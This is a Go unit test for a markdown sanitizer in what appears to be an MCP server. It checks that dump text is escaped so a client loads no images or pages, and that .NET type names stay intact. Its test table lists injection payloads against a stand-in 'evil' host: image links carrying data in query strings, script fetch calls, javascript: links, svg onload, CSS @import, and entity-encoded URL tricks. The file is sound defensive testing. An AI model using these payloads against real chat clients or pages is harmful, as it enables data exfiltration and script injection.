package mcpserver

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestCleanMarkdown: no text of a dump makes a client load an image or a page, and names of .NET stay.
func TestCleanMarkdown(t *testing.T) {
	for text, want := range map[string]string{
		"![a](http://evil/x.png?d=1)":       `\u0021[a\u005d(http://evil/x.png?d=1)`,
		"![a](x.png)":                       `\u0021[a](x.png)`,
		"![a][b] [b]: https://evil/x":       `\u0021[a][b] [b\u005d: https://evil/x`,
		"[click]( <javascript:alert(1)>)":   `[click\u005d( <javascript:alert(1)>)`,
		"[click](//evil/x) [c](/x) [d](#x)": `[click\u005d(//evil/x) [c\u005d(/x) [d\u005d(#x)`,
		"<https://evil/x>":                  `\u003chttps://evil/x>`,
		`<img src="http://evil/x"> <IMG/x>`: `\u003cimg src="http://evil/x"> \u003cIMG/x>`,
		`<a href="http://evil/x">`:          `\u003ca href="http://evil/x">`,
		"<style>@import 'http://evil/x'":    `\u003cstyle>@import 'http://evil/x'`,
		"<script src=x> <svg/onload=x>":     `\u003cscript src=x> \u003csvg/onload=x>`,
		"<Script src=x> <sCRIPT/src=x>":     `\u003cScript src=x> \u003csCRIPT/src=x>`,
		`<Style>@import"//evil/x"`:          `\u003cStyle>@import"//evil/x"`,
		"<Style>k__BackingField":            `\u003cStyle>k__BackingField`, // the next text goes on with the element
		"<style>a__,*{x:url(//evil/x)}":     `\u003cstyle>a__,*{x:url(//evil/x)}`,
		"<script>a__=fetch('//evil/x')//":   `\u003cscript>a__=fetch('//evil/x')//`,
		"[a](http&#58;//evil/x)":            `[a\u005d(http&#58;//evil/x)`,
		"[a](&#104;ttp://evil/x)":           `[a\u005d(&#104;ttp://evil/x)`,
		"[a]: &sol;&sol;evil/x":             `[a\u005d: &sol;&sol;evil/x`,
		`[a](http\://evil/x)`:               `[a\u005d(http\://evil/x)`,
		"<body background=//evil/x>":        `\u003cbody background=//evil/x>`,
		"<p style=x:url(//evil/x)>":         `\u003cp style=x:url(//evil/x)>`,
		"look: <img":                        `look: \u003cimg`, // the next text goes on
		"[x]:":                              `[x\u005d:`,
		"[x](":                              `[x\u005d(`,
		`[k](\\evil\a)`:                     `[k\u005d(\\evil\a)`,
	} {
		assert.Equal(t, want, clean(text))
	}
	for _, name := range []string{
		"Shop.Get[[System.__Canon, System.Private.CoreLib]](System.String, Int32)", "Shop.Sort[T](T[], System.Func`2<T,System.Int32>)", "System.String[]", "List<A>", "Pair<Image,Source>",
		"Shop.Program+<Main>d__0.MoveNext()", "!!0 !0[] != [0]: 5", "<not in dump>", "<Shop>k__BackingField", "System.String[]:", "https://shop/cart", "Span<a>",
	} {
		assert.Equal(t, name, clean(name))
	}
}
